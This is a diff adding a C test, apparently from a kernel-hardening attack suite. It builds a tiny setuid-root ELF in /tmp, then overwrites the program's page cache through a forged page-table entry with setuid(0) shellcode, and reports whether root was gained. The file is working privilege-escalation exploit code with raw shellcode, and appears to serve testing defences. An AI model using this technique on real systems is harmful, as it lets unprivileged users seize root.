@@ -1,0 +1,133 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * A root-owned setuid program that any user may read: its page cache is
+ * overwritten through a forged PTE, and the next user who runs it runs the
+ * attacker's code as root.
+ */
+#include <elf.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "list.h"
+
+#define PROGRAM		"/tmp/setuid-program"
+#define LOAD_ADDRESS	0x400000UL
+#define IS_ROOT		42
+
+/* exit(0) */
+static const unsigned char innocent[] = {
+	0x31, 0xff,				/* xor %edi,%edi */
+	0xb8, 0x3c, 0x00, 0x00, 0x00,		/* mov $60,%eax */
+	0x0f, 0x05,				/* syscall */
+};
+
+/* setuid(0); exit(getuid() + 42) */
+static const unsigned char evil[] = {
+	0x31, 0xff,				/* xor %edi,%edi */
+	0xb8, 0x69, 0x00, 0x00, 0x00,		/* mov $105,%eax */
+	0x0f, 0x05,				/* syscall */
+	0xb8, 0x66, 0x00, 0x00, 0x00,		/* mov $102,%eax */
+	0x0f, 0x05,				/* syscall */
+	0x89, 0xc7,				/* mov %eax,%edi */
+	0x83, 0xc7, IS_ROOT,			/* add $42,%edi */
+	0xb8, 0x3c, 0x00, 0x00, 0x00,		/* mov $60,%eax */
+	0x0f, 0x05,				/* syscall */
+};
+
+/* A whole program in one page. */
+static void make_program(char *page, const void *code, size_t size)
+{
+	Elf64_Ehdr *header = (Elf64_Ehdr *)page;
+	Elf64_Phdr *segment = (Elf64_Phdr *)(header + 1);
+	size_t entry = sizeof(*header) + sizeof(*segment);
+
+	memset(page, 0, PAGE_SIZE);
+	memcpy(header->e_ident, ELFMAG "\2\1\1", SELFMAG + 3);
+	header->e_type = ET_EXEC;
+	header->e_machine = EM_X86_64;
+	header->e_version = EV_CURRENT;
+	header->e_entry = LOAD_ADDRESS + entry;
+	header->e_phoff = sizeof(*header);
+	header->e_ehsize = sizeof(*header);
+	header->e_phentsize = sizeof(*segment);
+	header->e_phnum = 1;
+	segment->p_type = PT_LOAD;
+	segment->p_flags = PF_R | PF_X;
+	segment->p_vaddr = LOAD_ADDRESS;
+	segment->p_filesz = PAGE_SIZE;
+	segment->p_memsz = PAGE_SIZE;
+	segment->p_align = PAGE_SIZE;
+	memcpy(page + entry, code, size);
+}
+
+void setuid_program_create(void)
+{
+	char page[PAGE_SIZE];
+	int fd;
+
+	make_program(page, innocent, sizeof(innocent));
+	unlink(PROGRAM);
+	fd = open(PROGRAM, O_WRONLY | O_CREAT | O_EXCL, 0755);
+	if (fd < 0 || write(fd, page, PAGE_SIZE) != PAGE_SIZE || fchmod(fd, 04755))
+		_exit(1);
+	close(fd);
+}
+
+static int run_program(void)
+{
+	int status;
+	pid_t pid = fork();
+
+	if (!pid) {
+		execl(PROGRAM, PROGRAM, (char *)NULL);
+		_exit(127);
+	}
+	waitpid(pid, &status, 0);
+	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
+}
+
+static enum outcome judge_program(int err)
+{
+	struct stat stat;
+	int status = run_program();
+
+	lstat(PROGRAM, &stat);
+	if (status == IS_ROOT)
+		return won("%s (owner %d, mode %o, never opened for writing) ran the attacker's code for uid=%d: setuid(0), then getuid() gave uid=0",
+			   PROGRAM, stat.st_uid, stat.st_mode & 07777, getuid());
+	return lost("store gave %d, %s still exits with %d", err, PROGRAM, status);
+}
+
+/* Page tables never lie to fork() for long: map, write, unmap, then run. */
+static int overwrite_page_cache(uint64_t phys)
+{
+	struct window window;
+	int err;
+
+	if (!window_open(&window, LEVEL_PTE))
+		return -1;
+	err = window_map(&window, plain_store, NULL, phys);
+	if (!err)
+		make_program(window.page, evil, sizeof(evil));
+	window_close(&window);
+	return err;
+}
+
+enum outcome setuid_page_cache(void)
+{
+	int fd = open(PROGRAM, O_RDONLY);
+	volatile char *file = mmap(NULL, PAGE_SIZE, PROT_READ, MAP_SHARED, fd, 0);
+	struct slot slot;
+
+	if (file == MAP_FAILED || file[0] != ELFMAG0)
+		return broken("cannot map %s", PROGRAM);
+	if (kwalk((uint64_t)file, LEAF, 0, &slot))
+		return broken("no page-table entry found");
+	return judge_program(overwrite_page_cache(slot.phys));
+}
